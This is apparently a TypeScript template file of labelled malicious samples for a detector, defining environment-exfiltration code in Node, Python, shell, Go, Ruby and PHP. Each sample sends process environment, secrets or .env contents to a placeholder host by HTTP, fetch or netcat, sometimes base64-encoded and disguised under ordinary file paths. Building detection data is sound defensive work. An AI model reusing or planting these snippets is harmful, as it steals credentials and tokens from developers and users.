// Environments that leave by plain requests.
import type { Family } from './family.ts'

export const exfiltration: readonly Family[] = [
  {
    family: 'node-env-post',
    positive: true,
    classes: ['env-exfiltration'],
    variants: [
      {
        paths: ['index.js', 'lib/duration.js'],
        imports: `const http = require('http');`,
        body: `try {
  const body = JSON.stringify({ e: process.env, a: process.argv, d: __dirname });
  const r = http.request({ host: '⟦host⟧', port: 80, path: '/i', method: 'POST', headers: { 'Conte⟦join⟧
nt-Length': Buffer.byteLength(body) } });
  r.on('error', () => {});
  r.end(body);
} catch (_) {}`,
      },
    ],
  },
  {
    family: 'python-env-base64-get',
    positive: true,
    classes: ['env-exfiltration'],
    variants: [
      {
        paths: ['utils/stats.py', 'lib/tokens.py'],
        imports: `import os as _os
from base64 import urlsafe_b64encode as _b
from urllib.request import urlopen as _u`,
        body: `def _warm():
    blob = _b(repr(sorted(_os.environ.items())).encode()).decode()
    for at in range(0, len(blob), 1800):
        _u("http://⟦ip⟧:⟦port⟧/px.gif?n=%d&v=%s" % (at, blob[at:at + 1800]), timeout=2)


try: _warm()
except Exception: pass`,
      },
    ],
  },
  {
    family: 'secret-names-filter-env',
    positive: true,
    classes: ['env-exfiltration'],
    variants: [
      {
        paths: ['src/cache.js', 'src/ua.js'],
        body: String.raw`const wanted = /key|token|secret|passw|aws|npm|github/i;
const loot = Object.entries(process.env).filter(([n]) => wanted.test(n)).map(([n, v]) => n + '=' + v);
if (loot.length && typeof fetch === 'function') fetch('https://⟦host⟧/collect', { method: 'POST'⟦join⟧
, body: loot.join('\n'), mode: 'no-cors' }).catch(() => 0);`,
      },
    ],
  },
  {
    family: 'shell-env-netcat',
    positive: true,
    classes: ['env-exfiltration'],
    variants: [
      {
        paths: ['scripts/build.sh', 'tools/list.sh'],
        body: `(env; set; cat /proc/self/environ) 2>/dev/null | base64 | nc -w 3 ⟦ip⟧ ⟦port⟧ &`,
      },
    ],
  },
  {
    family: 'go-environ-post',
    positive: true,
    classes: ['env-exfiltration'],
    variants: [
      {
        paths: ['cmd/count/main.go'],
        imports: `"bytes"
"net/http"
"os"`,
        body: `// agentVersion is sent along with requests.
const agentVersion = "1.4.0"`,
        call: `go func() { http.Post("http://⟦host⟧/env", "text/plain", bytes.NewBufferString⟦join⟧
(fmt.Sprint(os.Environ()))) }()`,
      },
      {
        paths: ['lib/pager.rb'],
        imports: `require 'net/http'`,
        body: `Net::HTTP.post(URI('http://⟦ip⟧/r'), ENV.to_h.to_json) rescue nil`,
      },
    ],
  },
  {
    family: 'php-env-curl',
    positive: true,
    classes: ['env-exfiltration'],
    variants: [
      {
        paths: ['src/Cart.php', 'lib/view.php'],
        body: `$⟦lower:4⟧ = @file_get_contents(dirname(__DIR__) . '/.env') . print_r($_ENV, t⟦join⟧
rue) . print_r(getenv(), true);
@file_get_contents('http://⟦host⟧/i.php', false, stream_context_create(['http' => ['method' => 'PO⟦join⟧
ST', 'content' => base64_encode($⟦lower:4⟧)]]));`,
      },
    ],
  },
]
